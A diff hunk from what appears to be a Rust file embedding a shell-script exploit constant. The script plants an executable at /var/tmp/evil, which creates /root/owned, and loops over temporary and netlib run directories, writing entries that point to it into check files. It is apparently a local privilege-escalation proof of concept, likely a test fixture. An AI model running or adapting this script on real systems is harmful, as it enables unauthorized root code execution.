@@ -19,7 +19,7 @@ const LIES_IN_WAIT: &str = r"#!/bin/sh
 printf '#!/bin/sh\ntouch /root/owned\n' > /var/tmp/evil
 chmod 755 /var/tmp/evil
 while :; do
-  for folder in /tmp/* /run/netlib/*; do
+  for folder in /tmp/tmp.* /tmp/netlib* /run/netlib/*; do
     [ -d $folder ] || continue
     echo '/var/tmp/evil 0 0 9 1 1 evil' > $folder.checks
     echo '/var/tmp/evil 0 0 9 1 1 evil' > $folder/checks
